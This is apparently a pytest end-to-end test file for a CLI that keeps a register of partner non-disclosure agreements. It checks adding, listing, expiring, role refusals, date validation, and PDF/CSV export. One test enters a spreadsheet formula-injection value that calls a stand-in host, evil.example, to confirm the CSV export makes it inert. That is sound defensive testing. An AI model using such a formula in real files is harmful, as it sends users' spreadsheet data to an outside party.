"""`seatdesk partner …` run as a script would: the real process against a real vault, on the
real clock (dates relative to today)."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest

from seatdesk.app import load_default_policy
from tests.helpers.cli import Cli as ContractCli
from tests.helpers.cli import add_staff, copy_hall

PASSWORDS = {
    "admin01": "Admin-pass-2026",
    "sec01": "Secur-pass-2026",
    "agent01": "Agent-pass-2026",
}
ROLES = {"sec01": "security", "agent01": "agent"}
TODAY = load_default_policy().visitors.today(datetime.now(UTC))  # the hall's day, as the command's


class Cli(ContractCli):
    def as_(
        self, staff: str, *args: str, check: int | None = 0
    ) -> subprocess.CompletedProcess[str]:
        return super().as_(staff, PASSWORDS[staff], *args, check=check)


@pytest.fixture(scope="module")
def _partner_hall(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cli]:
    root = tmp_path_factory.mktemp("partner-e2e")
    c = Cli(home=root / "home", vault=root / "hall" / "hall.vault")
    init = c.run(
        *("init", "--vault", str(c.vault), "--admin", "admin01", "--key-storage", "none"),
        "--json",
        new_password=PASSWORDS["admin01"],
    )
    recovery = json.loads(init.stdout)["recovery_key"]
    for staff, role in sorted(ROLES.items(), key=lambda item: item[0] != "sec01"):
        add_staff(
            c,
            staff,
            role,
            "Initial-pw-2026",
            admin=("admin01", PASSWORDS["admin01"]),
            approver=None if staff == "sec01" else ("sec01", PASSWORDS["sec01"]),
            recovery_key=recovery if staff == "sec01" else None,
        )
        c.run(
            *("user", "passwd", "--vault", str(c.vault), "--as", staff),
            password="Initial-pw-2026",
            new_password=PASSWORDS[staff],
        )
        c.as_(staff, "agreement", "--accept")
    c.as_("admin01", "agreement", "--accept")
    yield c


@pytest.fixture
def cli(_partner_hall: Cli, tmp_path: Path) -> Cli:
    copy = copy_hall(_partner_hall, tmp_path)
    return Cli(copy.home, copy.vault)


def _add(c: Cli, staff: str, *extra: str, check: int = 0) -> subprocess.CompletedProcess[str]:
    return c.as_(staff, "partner", "add", *extra, check=check)


def _args(name: str, number: str, expires: date, *more: str) -> list[str]:
    return [
        *("--name", name, "--agreement", number),
        *("--signed", (TODAY - timedelta(days=300)).isoformat(), "--expires", expires.isoformat()),
        *("--purpose", "监管报送", "--purpose", "投诉复核", "--classes", "二类,三类"),
        *more,
    ]


def test_add_list_show_expire_with_their_exit_codes(cli: Cli, tmp_path: Path) -> None:
    scan = tmp_path / "signed.pdf"
    scan.write_bytes(b"%PDF-1.4 the signed agreement")
    added = _add(
        cli,
        "sec01",
        *_args("华信征信服务有限公司", "NDA-A", TODAY + timedelta(days=10)),
        *("--contact", "李经理 010-6500 1234", "--attach", str(scan), "--json"),
    )
    data = json.loads(added.stdout)
    assert data["agreement_no"] == "NDA-A" and data["classes"] == ["二类", "三类"]
    assert data["state"] == "expiring" and data["attachments"][0]["size"] == scan.stat().st_size
    _add(cli, "sec01", *_args("远方数据公司", "NDA-B", TODAY + timedelta(days=400)))

    listing = cli.as_("sec01", "partner", "list").stdout
    line_a = next(line for line in listing.splitlines() if "NDA-A" in line)
    line_b = next(line for line in listing.splitlines() if "NDA-B" in line)
    assert "EXPIRING in 10 d" in line_a and "EXPIRING" not in line_b
    listed = json.loads(cli.as_("sec01", "partner", "list", "--json").stdout)
    assert [p["state"] for p in listed] == ["expiring", "valid"]

    shown = cli.as_("sec01", "partner", "show", "NDA-B").stdout
    assert "远方数据公司" in shown and "监管报送; 投诉复核" in shown
    assert json.loads(cli.as_("sec01", "partner", "show", "NDA-B", "--json").stdout)["id"] == 2

    ended = cli.as_("sec01", "partner", "expire", "NDA-B", "--reason", "合作终止", "--json")
    assert json.loads(ended.stdout)["state"] == "ended"
    again = cli.as_("sec01", "partner", "expire", "NDA-B", "--reason", "x", check=2)
    assert "already been ended" in again.stderr and "Traceback" not in again.stderr
    missing = cli.as_("sec01", "partner", "show", "NDA-NONE", check=2)
    assert "no partner agreement 'NDA-NONE'" in missing.stderr
    assert len(json.loads(cli.as_("sec01", "partner", "list", "--json").stdout)) == 2


def test_the_agent_and_the_admin_are_refused_with_exit_3(cli: Cli) -> None:
    for staff in ("agent01", "admin01"):
        refused = _add(cli, staff, *_args("某公司", "NDA-X", TODAY + timedelta(days=9)), check=3)
        assert "may not keep the partner register" in refused.stderr
        cli.as_(staff, "partner", "list", check=3)
    assert json.loads(cli.as_("sec01", "partner", "list", "--json").stdout) == []


def test_a_bad_date_is_a_usage_error_that_changes_nothing(cli: Cli) -> None:
    for bad in ("2026-02-30", "30/11/2027", "tomorrow"):
        result = cli.as_(
            "sec01",
            "partner",
            "add",
            *[bad if a == TODAY.isoformat() else a for a in _args("某公司", "NDA-X", TODAY)],
            check=2,
        )
        assert "--expires: expected a date as YYYY-MM-DD" in result.stderr
        assert "Traceback" not in result.stderr
    backwards = _add(cli, "sec01", *_args("某公司", "NDA-X", TODAY - timedelta(days=400)), check=2)
    assert "cannot expire before it is signed" in backwards.stderr
    unknown = _add(
        cli,
        "sec01",
        *[a if a != "二类,三类" else "四类" for a in _args("某公司", "NDA-X", TODAY)],
        check=2,
    )
    assert "classes" in unknown.stderr
    assert json.loads(cli.as_("sec01", "partner", "list", "--json").stdout) == []


def test_the_register_as_pdf_and_csv(cli: Cli, tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    _add(cli, "sec01", *_args(formula, "NDA-F", TODAY + timedelta(days=5)))
    _add(cli, "sec01", *_args("华信征信服务有限公司", "NDA-H", TODAY + timedelta(days=200)))
    pdf = tmp_path / "partners.pdf"
    written = cli.as_("sec01", "partner", "pdf", "--out", str(pdf), "--json")
    assert pdf.stat().st_mode & 0o777 == 0o600
    assert json.loads(written.stdout)["sha256"]
    text = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "合作方保密协议登记" in text and "华信征信服务有限公司" in text
    assert "NDA-H" in text and "即将到期 expiring" in text and "有效 valid" in text
    out = tmp_path / "partners.csv"
    cli.as_("sec01", "partner", "csv", "--out", str(out))
    assert out.stat().st_mode & 0o777 == 0o600
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    by_number = {r["agreement_no"]: r for r in rows}
    assert by_number["NDA-F"]["name"] == "'" + formula  # inert in a spreadsheet
    assert by_number["NDA-F"]["state"] == "expiring"
    assert by_number["NDA-H"]["name"] == "华信征信服务有限公司"
    cli.as_("agent01", "partner", "csv", "--out", str(tmp_path / "x.csv"), check=3)
    assert not (tmp_path / "x.csv").exists()
